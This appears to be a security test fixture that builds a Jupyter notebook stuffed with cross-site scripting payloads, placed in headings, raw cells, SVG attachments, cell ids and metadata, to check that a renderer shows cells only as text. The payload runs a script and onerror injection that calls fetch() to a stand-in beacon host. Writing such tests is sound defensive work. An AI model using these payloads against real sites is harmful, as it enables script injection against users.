# tries: to run scripts by a notebook of its own: headings, raw cells, attachments, metadata, names of cells
# must: have its cells shown as text, and nothing of the rest
# kind: upload
# score: 10
# notice: "free-form"
from tests.graders.folders import code, notebook, words

CALL = "fetch('http://beacon.example/cells');top.owned=self.owned=1;alert(1)"
MARK = f'</textarea></title><script>{CALL}</script><img src=x onerror="{CALL}">'


def upload(quest):
    raw = words(MARK, metadata={"format": "text/html", "raw_mimetype": "text/html", "tags": [MARK]})
    raw["cell_type"] = "raw"
    carried = {"x.svg": {"image/svg+xml": MARK}, MARK: {"text/html": MARK}}
    return notebook(
        words(f"# {MARK}\n\n![](attachment:x.svg) [x](javascript:{CALL})", attachments=carried),
        raw,
        code(
            f"# {MARK}\ndef add(a, b):\n    return a + b  # {MARK}", id=MARK, metadata={"name": MARK, "jupyter": MARK}
        ),
        code(f'"""{MARK}"""'.replace('"fetch', "'fetch").replace(')">', ")'>")),
        metadata={"title": MARK, "authors": [{"name": MARK}], "widgets": {"state": MARK}},
    )
